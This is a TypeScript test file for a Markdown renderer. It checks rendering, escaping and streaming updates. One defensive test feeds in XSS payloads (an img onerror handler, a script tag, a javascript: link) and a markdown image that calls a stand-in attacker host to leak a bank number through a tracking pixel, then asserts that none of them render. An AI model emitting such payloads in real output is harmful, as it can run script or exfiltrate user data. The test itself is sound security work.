import { beforeAll, describe, expect, it } from "vitest";
import { loadMarkdown, markdownInto, renderMarkdown } from "./markdown";

describe("before markdown-it has loaded", () => {
  it("shows plain text, escaped", () => {
    expect(renderMarkdown("# a <b>")).toBe('<p class="plain"># a &#60;b&#62;</p>');
  });
});

describe("Markdown answers", () => {
  beforeAll(async () => { await loadMarkdown(); });
  it("renders headings, lists, tables and code", () => {
    const html = renderMarkdown("# Plan\n\n- one\n- **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```rust\nfn main() {}\n```\n");
    const d = document.createElement("div");
    d.innerHTML = html;
    expect(d.querySelector("h1")?.textContent).toBe("Plan");
    expect(d.querySelectorAll("li").length).toBe(2);
    expect(d.querySelector("strong")?.textContent).toBe("two");
    expect(d.querySelectorAll("td").length).toBe(2);
    expect(d.querySelector(".code code")?.textContent).toBe("fn main() {}\n");
    expect(d.querySelector(".code code")?.getAttribute("data-lang")).toBe("rust");
    expect(d.querySelector(".code button.copy")?.getAttribute("aria-label")).toBe("Copy code");
  });

  it("never renders raw HTML, loads an image or makes a link", () => {
    const d = document.createElement("div");
    d.innerHTML = renderMarkdown(
      'Hi <img src=x onerror="alert(1)"> <script>alert(2)</script>\n\n![chart](https://attacker.example/pixel?d=[IBAN_1])\n\n[click](javascript:alert(3)) and [docs](https://example.org/a?b=1)',
    );
    expect(d.querySelector("img, script, a, iframe")).toBeNull();
    expect(d.querySelector("[onerror]")).toBeNull();
    expect(d.textContent).toContain('<img src=x onerror="alert(1)">');
    expect(d.querySelector(".md-image")?.textContent).toBe("[image: chart]");
    expect(d.textContent).not.toContain("attacker.example");
    // Links keep their label; the address is shown, never followed.
    const urls = [...d.querySelectorAll(".md-url")].map((e) => e.textContent);
    expect(urls).toContain("(https://example.org/a?b=1)");
    expect(d.querySelector(".md-link")?.textContent).toBe("docs");
    // A javascript: link is not even a link: it stays the text it was.
    expect(d.textContent).toContain("[click](javascript:alert(3))");
  });

  it("streams once per frame and ends with the final text", async () => {
    const el = document.createElement("div");
    const r = markdownInto(el);
    r.update("# Ti");
    r.update("# Title\n\nbody");
    expect(el.innerHTML).toBe("");
    await new Promise((res) => setTimeout(res, 40));
    expect(el.querySelector("h1")?.textContent).toBe("Title");
    r.update("# Title\n\nbody and more");
    r.done("# Title\n\nfinal");
    await new Promise((res) => setTimeout(res, 40));
    expect(el.querySelector("p")?.textContent).toBe("final");
    r.update("late");
    r.cancel();
    await new Promise((res) => setTimeout(res, 40));
    expect(el.querySelector("p")?.textContent).toBe("final");
  });
});
